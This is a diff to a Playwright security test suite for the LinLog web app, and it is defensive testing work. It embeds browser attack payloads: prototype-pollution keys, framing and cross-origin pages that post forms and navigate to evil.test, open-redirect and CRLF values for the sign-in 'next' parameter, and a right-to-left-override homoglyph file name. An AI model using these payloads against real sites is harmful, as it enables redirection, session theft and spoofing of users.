@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import re
 from collections.abc import Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Thread
+from urllib.parse import quote
 
 import pytest
 from playwright.sync_api import Page, Route, expect
@@ -18,7 +20,7 @@ from linlog import LinLogClient
 from linlog.wire.tasks import ItemCreate, TaskCreate
 from tests.attacks import targets
 from tests.attacks.targets import Target
-from tests.conftest import Template
+from tests.conftest import PASSWORD, Template
 from tests.e2e.conftest import enter
 from tests.factories import log_entries
 
@@ -83,9 +85,19 @@ def victim(page: Page, client: LinLogClient, target: Target) -> Page:
     page.context.route(lambda url: not url.startswith(client.base_url), refuse)
     page.asked = asked  # type: ignore[attr-defined]
     page.dialogs = []  # type: ignore[attr-defined]
+    page.add_init_script(VIOLATIONS)
     page.on("dialog", lambda one: (page.dialogs.append(one.message), one.dismiss()))  # type: ignore[attr-defined]
     enter(page, client.base_url, target.person)
     return page
+
+
+VIOLATIONS = """
+  window.violations = [];
+  addEventListener("securitypolicyviolation", (event) => {
+    window.violations.push([event.violatedDirective, event.blockedURI, event.sourceFile]);
+  });
+"""
+"""Notes what the policy of a page had to stop."""
 
 
 def unharmed(page: Page) -> None:
@@ -98,9 +110,11 @@ def unharmed(page: Page) -> None:
 
 
 @pytest.mark.attack("C01", "C15")
-def test_texts_are_shown_as_texts(victim: Page, client: LinLogClient) -> None:
+def test_texts_are_shown_as_texts(victim: Page, client: LinLogClient, target: Target) -> None:
     polluted = {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}
-    project = client.projects.create(SCRIPTS[0] + SCRIPTS[5], labels=list(SCRIPTS))
+    labels = [*SCRIPTS, "__proto__", "constructor", "prototype"]
+    project = client.projects.create(SCRIPTS[0] + SCRIPTS[5], labels=labels)
+    client.users.update(target.ids["user_id"], name=SCRIPTS[0])
     sent = [
         TaskCreate(
             item=ItemCreate(type="text", text=text, filename=f"{text}.txt"),
@@ -113,16 +127,22 @@ def test_texts_are_shown_as_texts(victim: Page, client: LinLogClient) -> None:
         for text in SCRIPTS
     ]
     tasks = client.tasks.create_all(project.id, sent).results
+    for task, text in zip(tasks, SCRIPTS, strict=True):
+        client.comments.create(task.id, text)
+        client.reviews.reject(task.id, text)
     dataset = client.datasets.create(SCRIPTS[3].replace("/", " "), project_id=project.id)
     model = client.models.create(SCRIPTS[1])
-    version = client.model_versions.create(model.id, SCRIPTS[2], config={SCRIPTS[3]: SCRIPTS[4]})
-    logged = {SCRIPTS[0]: 1.0, SCRIPTS[6]: SCRIPTS[1]}
+    config = {SCRIPTS[3]: SCRIPTS[4], **polluted}
+    version = client.model_versions.create(model.id, SCRIPTS[2], config=config)
+    logged = {SCRIPTS[0]: 1.0, SCRIPTS[6]: SCRIPTS[1], "__proto__": 1.0, "constructor": 2.0}
+    client.slices.create(dataset.id, SCRIPTS[1], f"tag:{json.dumps(SCRIPTS[0])}")
     log_entries.send(client, version.id, [log_entries.of(0, 1, **logged)])
     inside = f"/projects/{project.id}"
     for path in (
         *("/projects", inside, f"{inside}?view=table", f"{inside}/labels", f"{inside}/batches"),
         *(f"{inside}/tasks/{task.id}" for task in tasks),
         *("/datasets", f"/datasets/{dataset.id}", f"/datasets/{dataset.id}/versions"),
+        *(f"/datasets/{dataset.id}/slices", f"{inside}/members", "/settings", "/audit"),
         *("/models", f"/models/{model.id}", f"/model-versions?model_id={model.id}&view=table"),
         *(f"/model-versions/{version.id}", f"/model-versions?model_id={model.id}&view=configs"),
         "/projects?__proto__[polluted]=1&constructor.prototype.polluted=1",
@@ -132,6 +152,7 @@ def test_texts_are_shown_as_texts(victim: Page, client: LinLogClient) -> None:
         expect(victim.locator("main h1")).not_to_have_text("There is no such page")
         expect(victim.locator(".mantine-Skeleton-root")).to_have_count(0)
         unharmed(victim)
+        assert (path, victim.evaluate("window.violations")) == (path, [])
         width = victim.evaluate("document.documentElement.scrollWidth - innerWidth")
         assert width <= 0, f"{path} runs out of its window by {width} pixels"
 
@@ -165,16 +186,15 @@ def test_a_page_of_a_task_reaches_nothing(victim: Page, client: LinLogClient) ->
 
 
 @contextmanager
-def framing(address: str) -> Iterator[str]:
-    """A site on loopback that shows an address in a frame."""
+def site(html: str) -> Iterator[str]:
+    """A site on loopback that answers everything with one page."""
 
     class Handler(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
-            body = f'<title>evil</title><iframe src="{address}"></iframe>'.encode()
             self.send_response(200)
             self.send_header("Content-Type", "text/html")
             self.end_headers()
-            self.wfile.write(body)
+            self.wfile.write(html.encode())
 
         def log_message(self, *_: object) -> None:
             """Say nothing."""
@@ -192,7 +212,7 @@ def framing(address: str) -> Iterator[str]:
 def test_no_other_site_shows_a_page_of_ours_in_a_frame(
     page: Page, client: LinLogClient, path: str
 ) -> None:
-    with framing(f"{client.base_url}{path}") as evil:
+    with site(f'<title>evil</title><iframe src="{client.base_url}{path}"></iframe>') as evil:
         refused: list[str] = []
         page.on("console", lambda said: refused.append(said.text))
         page.goto(evil)
@@ -262,7 +282,8 @@ ISOLATED = """() => {
 def test_writing_that_turns_over_turns_over_itself_alone(
     victim: Page, client: LinLogClient
 ) -> None:
-    name = "ab\u202egnp.exe\u200b" + "e\u0301" * 60
+    # Turned over, unseen, of two alphabets, and one letter with a hundred marks.
+    name = "ab\u202egnp.exe\u200b раypal e" + "\u0301" * 100
     project = client.projects.create(name, labels=[name])
     new = TaskCreate(
         item=ItemCreate(type="text", text=name, filename=f"{name}.txt"), batch=name, tags=(name,)
@@ -317,21 +338,9 @@ HEARING = """
 def test_messages_from_a_frame_are_heard_by_nobody(
     page: Page, client: LinLogClient, target: Target
 ) -> None:
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            self.send_response(200)
-            self.send_header("Content-Type", "text/html")
-            self.end_headers()
-            self.wfile.write(FORGED.encode())
-
-        def log_message(self, *_: object) -> None:
-            """Say nothing."""
-
-    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
-        thread = Thread(target=server.serve_forever, daemon=True)
-        thread.start()
+    with site(FORGED) as evil:
         project = client.projects.create("Frames")
-        item = ItemCreate(type="iframe", url=f"http://127.0.0.1:{server.server_port}/")
+        item = ItemCreate(type="iframe", url=evil)
         (task,) = client.tasks.create_all(project.id, [TaskCreate(item=item)]).results
         dialogs: list[str] = []
         page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
@@ -349,5 +358,74 @@ def test_messages_from_a_frame_are_heard_by_nobody(
         assert len(page.context.pages) == 1
         after = client.tasks.get(task.id)
         assert (after.complete, after.version) == (task.complete, task.version)
-        server.shutdown()
-        thread.join()
+
+
+REACHING = """<!doctype html><title>a page</title><p id=said>quiet</p>
+<form action="https://evil.test/" method=post id=form><input name=a value=b></form>
+<script>
+  const tried = {
+    parent: () => { parent.document.title = "taken"; },
+    top: () => { top.location = "https://evil.test/"; },
+    stored: () => { localStorage.setItem("taken", "1"); },
+    cookies: () => { document.cookie = "taken=1"; },
+    opened: () => { if (window.open("https://evil.test/") === null) throw "blocked"; },
+  };
+  const reached = [];
+  for (const [name, act] of Object.entries(tried)) try { act(); reached.push(name); } catch {}
+  document.getElementById("form").submit();
+  fetch("ORIGIN/api/v2/session", { credentials: "include" })
+    .then(() => reached.push("session"), () => {})
+    .then(() => { document.getElementById("said").textContent = `reached: ${reached}`; });
+</script>"""
+
+
+@pytest.mark.attack("C04")
+def test_a_page_of_another_site_in_a_task_reaches_nothing(
+    page: Page, client: LinLogClient, target: Target
+) -> None:
+    with site(REACHING.replace("ORIGIN", client.base_url)) as evil:
+        asked: list[str] = []
+        page.on("request", lambda one: asked.append(one.url))
+        project = client.projects.create("Frames")
+        item = ItemCreate(type="iframe", url=evil)
+        (task,) = client.tasks.create_all(project.id, [TaskCreate(item=item)]).results
+        enter(page, client.base_url, target.person)
+        where = f"{client.base_url}/projects/{project.id}/tasks/{task.id}"
+        page.goto(where)
+        page.get_by_role("button", name="Show it here").click()
+        said = page.frame_locator("iframe").frame_locator("iframe").locator("#said")
+        expect(said).to_have_text("reached: ")
+        assert (page.url, "taken" in page.title()) == (where, False)
+        assert page.evaluate("localStorage.getItem('taken')") is None
+        assert not [one for one in page.context.cookies() if one["name"] == "taken"]
+        assert not [one for one in asked if "evil.test" in one]
+        assert len(page.context.pages) == 1
+
+
+@pytest.mark.attack("C12")
+@pytest.mark.parametrize(
+    "elsewhere",
+    [
+        *("//evil.test", "/\\evil.test", "https:evil.test", "javascript:pwned=1", "\\/evil.test"),
+        *(
+            "/%0d%0aSet-Cookie:a=b",
+            "https://127.0.0.1@evil.test/",
+            "/\t/evil.test",
+            "data:text/html,x",
+        ),
+    ],
+)
+def test_signing_in_leads_to_our_own_pages_alone(
+    page: Page, client: LinLogClient, target: Target, elsewhere: str
+) -> None:
+    asked: list[str] = []
+    page.on("request", lambda one: asked.append(one.url))
+    page.goto(f"{client.base_url}/sign-in?next={quote(elsewhere, safe='')}")
+    page.get_by_label("Email").fill(target.person)
+    page.get_by_label("Password", exact=True).fill(PASSWORD)
+    page.keyboard.press("Enter")
+    expect(page.get_by_label("Password", exact=True)).to_have_count(0)
+    assert page.url.startswith(f"{client.base_url}/")
+    assert [one for one in asked if not one.startswith(client.base_url)] == []
+    assert page.evaluate("typeof pwned") == "undefined"
+    assert {one["name"] for one in page.context.cookies()} == {"ll_session"}
